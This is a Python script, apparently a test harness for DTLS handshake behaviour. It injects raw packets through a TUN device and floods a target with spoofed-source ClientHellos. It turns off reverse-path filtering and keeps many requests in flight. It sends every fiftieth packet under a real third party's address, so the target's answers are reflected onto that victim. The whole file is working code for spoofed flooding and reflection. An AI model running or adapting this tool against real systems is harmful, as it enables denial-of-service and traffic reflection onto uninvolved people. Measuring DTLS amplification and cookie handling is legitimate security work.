"""First ClientHellos from addresses that nobody has: spoofer.py TARGET-ADDRESS TARGET-PORT COUNT HELLO-HEX [VICTIM].

Runs in a network of its own rights. Packets come out of a TUN device, as from a router; what is answered to them comes
back into it and is looked at. As many are on their way as a socket's buffer has room for, so that the target is busy
and not merely overrun. Every fiftieth packet bears the address of VICTIM, which is somebody real. Ends with one line
of JSON.
"""

from __future__ import annotations

import fcntl
import json
import os
import select
import struct
import subprocess
import sys
from collections import Counter
from pathlib import Path

TUNSETIFF, IFF_TUN, IFF_NO_PI = 0x400454CA, 0x0001, 0x1000
FIRST_SOURCE = 0x0A200001  # 10.32.0.1
HEADERS = 28  # IPv4 and UDP
RANDOM_AT = HEADERS + 13 + 12 + 2  # behind the record header, the handshake header and the version
UNDER_WAY = 128
HANDSHAKE, HELLO_VERIFY_REQUEST = 22, 3
VICTIM_EVERY = 50


def open_tun() -> int:
    tun = os.open("/dev/net/tun", os.O_RDWR | os.O_NONBLOCK)
    fcntl.ioctl(tun, TUNSETIFF, struct.pack("16sH22x", b"flood", IFF_TUN | IFF_NO_PI))
    subprocess.run(["ip", "link", "set", "flood", "up"], check=True)
    subprocess.run(["ip", "route", "add", "10.32.0.0/11", "dev", "flood"], check=True)
    for device in ("all", "flood"):  # a host that asks where a source lives would not let the victim's address in
        Path(f"/proc/sys/net/ipv4/conf/{device}/rp_filter").write_text("0", encoding="ascii")
    return tun


class Spoofer:
    def __init__(self, target: str, port: int, hello: bytes, victim: str) -> None:
        self._tun = open_tun()
        self._packet = bytearray(HEADERS) + hello
        self._packet[0:12] = struct.pack(">BBHHHBBH", 0x45, 0, len(self._packet), 0, 0, 64, 17, 0)
        self._packet[16:20] = bytes(int(octet) for octet in target.split("."))
        self._packet[20:28] = struct.pack(">HHHH", 0, port, len(hello) + 8, 0)  # no checksum: allowed in IPv4
        self._fixed_sum = sum(struct.unpack(">10H", self._packet[:20]))
        self._victim = struct.unpack(">I", bytes(int(octet) for octet in victim.split(".")))[0] if victim else 0
        self._answers: Counter[str] = Counter()
        self.sent, self.to_victim, self.longest = 0, 0, 0

    def run(self, count: int) -> dict[str, object]:
        # A packet to the victim is answered where we do not see it: it counts as answered at once.
        for number in range(count):
            is_victim = bool(self._victim) and number % VICTIM_EVERY == 0
            self._send(number, self._victim if is_victim else FIRST_SOURCE + number)
            self.to_victim += is_victim
            self._read(0)
            while self._missing() > UNDER_WAY and self._read(1000):
                pass
        while self._missing() > 0 and self._read(1000):
            pass
        return {"sent": self.sent, "to_victim": self.to_victim, "answers": self._answers, "longest": self.longest,
                "length": len(self._packet) - HEADERS}

    def _missing(self) -> int:
        return self.sent - self.to_victim - sum(self._answers.values())

    def _send(self, number: int, source: int) -> None:
        packet = self._packet
        total = self._fixed_sum + (source >> 16) + (source & 0xFFFF)
        total = (total & 0xFFFF) + (total >> 16)
        total = (total & 0xFFFF) + (total >> 16)
        struct.pack_into(">HI", packet, 10, total ^ 0xFFFF, source)
        struct.pack_into(">H", packet, 20, 1024 + number % 60000)
        packet[RANDOM_AT:RANDOM_AT + 8] = number.to_bytes(8, "big")
        os.write(self._tun, packet)
        self.sent += 1

    def _read(self, timeout: int) -> bool:
        """Everything that has come back; whether anything came within `timeout` milliseconds."""
        came = False
        while True:
            try:
                packet = os.read(self._tun, 65536)
            except BlockingIOError:
                if came or not timeout or not select.select([self._tun], [], [], timeout / 1000)[0]:
                    return came
                continue
            if packet[0] >> 4 == 4 and packet[9] == 17:
                came = True
                self._look_at(packet[HEADERS:])

    def _look_at(self, answer: bytes) -> None:
        is_verify = len(answer) > 13 and answer[0] == HANDSHAKE and answer[13] == HELLO_VERIFY_REQUEST
        alone = is_verify and 13 + int.from_bytes(answer[11:13], "big") == len(answer)
        self._answers["hello_verify_request" if alone else f"something else: {answer[:14].hex()}"] += 1
        self.longest = max(self.longest, len(answer))


if __name__ == "__main__":
    TARGET, PORT, COUNT, HELLO, *VICTIM = sys.argv[1:]
    print(json.dumps(Spoofer(TARGET, int(PORT), bytes.fromhex(HELLO), *(VICTIM or [""])).run(int(COUNT))))
